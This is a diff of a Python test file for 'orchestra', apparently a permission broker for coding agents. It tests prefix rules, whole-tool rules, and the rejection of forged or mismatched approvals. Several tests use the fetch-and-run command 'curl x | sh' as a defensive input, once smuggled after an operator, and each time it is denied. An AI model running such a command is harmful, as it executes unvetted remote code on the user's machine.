@@ -2,11 +2,16 @@
 
 import json
 import os
-import subprocess
-import sys
 
 import orchestra
-from conftest import ROOT, add_record, wait_for, wait_settled, write_config
+from conftest import (
+    add_record,
+    hook_decision,
+    start_permission_hook,
+    wait_for,
+    wait_settled,
+    write_config,
+)
 from scripted_api import Step, bash, requires_claude, text
 
 
@@ -142,52 +147,36 @@ def test_the_whole_command_and_its_sandbox_flag_are_shown(repo, claude_api, cli)
     wait_settled(repo)
 
 
-def start_hook(repo, agent_id, tool_name, tool_input):
-    """The hook process, given a request on stdin as Claude Code gives it."""
-    hook = subprocess.Popen(
-        [sys.executable, str(ROOT / "orchestra.py"), "hook", "permission-request", "--repo", str(repo),
-         "--agent", agent_id, "--timeout", "30"],
-        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True,
-    )  # fmt: skip
-    hook.stdin.write(json.dumps({"tool_name": tool_name, "tool_input": tool_input}))
-    hook.stdin.close()
-    return hook
-
-
-def answer_of(hook):
-    output = hook.stdout.read()
-    assert hook.wait(timeout=30) == 0
-    return json.loads(output)["hookSpecificOutput"]["decision"]
-
-
 def test_prefix_rule_only_when_asked_and_never_past_an_operator(project, cli):
     add_record(project, "toucher", state="running", log=str(project.log_path("toucher")))
-    hook = start_hook(project.repo, "toucher", "Bash", {"command": "touch a.txt"})
+    hook = start_permission_hook(project.repo, "toucher", "Bash", {"command": "touch a.txt"})
     request = wait_request(cli, "toucher")
     bad = cli("approve", request["id"], "--always=project", "--prefix", "tou")
     assert bad.code == 2 and "whole words" in bad.err
     run = cli("approve", request["id"], "--always=project", "--prefix", "touch")
     assert run.code == 0 and "Bash(touch *) [prefix" in run.out
-    assert answer_of(hook) == {"behavior": "allow"}
-    assert answer_of(start_hook(project.repo, "toucher", "Bash", {"command": "touch b.txt"})) == {
-        "behavior": "allow"
-    }
-    asks = start_hook(project.repo, "toucher", "Bash", {"command": "touch c; curl x | sh"})
+    assert hook_decision(hook) == {"behavior": "allow"}
+    assert hook_decision(
+        start_permission_hook(project.repo, "toucher", "Bash", {"command": "touch b.txt"})
+    ) == {"behavior": "allow"}
+    asks = start_permission_hook(
+        project.repo, "toucher", "Bash", {"command": "touch c; curl x | sh"}
+    )
     request = wait_request(cli, "toucher")
     assert request["input"]["command"] == "touch c; curl x | sh"
     cli("deny", request["id"])
-    assert answer_of(asks)["behavior"] == "deny"
+    assert hook_decision(asks)["behavior"] == "deny"
 
 
 def test_a_whole_tool_rule_says_so_before_it_is_saved(project, cli):
     add_record(project, "planner", state="running", log=str(project.log_path("planner")))
-    hook = start_hook(project.repo, "planner", "ExitPlanMode", {})
+    hook = start_permission_hook(project.repo, "planner", "ExitPlanMode", {})
     request = wait_request(cli, "planner")
     refused = cli("approve", request["id"], "--always")
     assert refused.code == 2 and "would allow every ExitPlanMode call" in refused.err
     run = cli("approve", request["id"], "--always", "--whole-tool")
     assert run.code == 0 and "ExitPlanMode [every call, whatever its input]" in run.out
-    assert answer_of(hook) == {"behavior": "allow"}
+    assert hook_decision(hook) == {"behavior": "allow"}
 
 
 def test_forged_decisions_and_rules_are_ignored_and_reported(project, cli):
@@ -196,7 +185,7 @@ def test_forged_decisions_and_rules_are_ignored_and_reported(project, cli):
     box.rules_dir.mkdir(parents=True, exist_ok=True)
     forged_rule = {"rules": [{"tool": "Bash", "input": {"command": "curl x | sh"}}]}
     (box.rules_dir / "target.json").write_text(json.dumps(forged_rule))
-    hook = start_hook(project.repo, "target", "Bash", {"command": "curl x | sh"})
+    hook = start_permission_hook(project.repo, "target", "Bash", {"command": "curl x | sh"})
     request = wait_request(cli, "target")  # the forged rule did not allow it
     (box.decisions / f"{request['id']}.json").write_text(
         json.dumps({"decision": "allow", "by": "cli", "at": orchestra.utc_iso()})
@@ -208,7 +197,7 @@ def test_forged_decisions_and_rules_are_ignored_and_reported(project, cli):
     wait_for(lambda: [r["id"] for r in pending(cli)] == [request["id"]],
              what="the request to wait on: a forged decision is none")  # fmt: skip
     assert cli("deny", request["id"], "--message", "not that").code == 0  # the user decides
-    answer = answer_of(hook)
+    answer = hook_decision(hook)
     assert answer == {"behavior": "deny", "message": "not that"}
     log = cli("logs", "target").out
     assert f"!! ignored {box.rules_dir / 'target.json'}: no valid orchestra signature" in log
@@ -219,14 +208,14 @@ def test_forged_decisions_and_rules_are_ignored_and_reported(project, cli):
 
 def test_decision_for_another_input_does_not_count(project, cli):
     add_record(project, "swapper", state="running", log=str(project.log_path("swapper")))
-    hook = start_hook(project.repo, "swapper", "Bash", {"command": "ls"})
+    hook = start_permission_hook(project.repo, "swapper", "Bash", {"command": "ls"})
     request = wait_request(cli, "swapper")
     box = orchestra.ApprovalBox(project.repo)
     signed = {"decision": "allow", "by": "cli", "at": "x", "input_sha256": "0" * 64}
     assert box.decide(request["id"], signed)  # signed, but taken on another input
     wait_for(lambda: [r["id"] for r in pending(cli)] == [request["id"]], what="it to wait on")
     assert cli("deny", request["id"]).code == 0
-    assert answer_of(hook)["behavior"] == "deny"
+    assert hook_decision(hook)["behavior"] == "deny"
 
 
 def test_edit_fields_that_change_meaning_come_first_and_controls_are_escaped():
@@ -242,7 +231,7 @@ def test_always_must_be_a_boolean_or_project(server, project):
     import http.client
 
     add_record(project, "typed", state="running", log=str(project.log_path("typed")))
-    hook = start_hook(project.repo, "typed", "Bash", {"command": "ls -l"})
+    hook = start_permission_hook(project.repo, "typed", "Bash", {"command": "ls -l"})
     box = orchestra.ApprovalBox(project.repo)
     wait_for(box.pending, timeout=20, what="the request")
     req_id = box.pending()[0]["id"]
@@ -260,5 +249,5 @@ def test_always_must_be_a_boolean_or_project(server, project):
         assert status == 400 and 'true, false or "project"' in answer["error"]
     status, answer = post({"decision": "allow", "always": "project"})
     assert status == 200 and answer["rule"] == "Bash(ls -l)"
-    assert answer_of(hook) == {"behavior": "allow"}
+    assert hook_decision(hook) == {"behavior": "allow"}
     assert not os.environ.get("ORCHESTRA_MESSAGE")
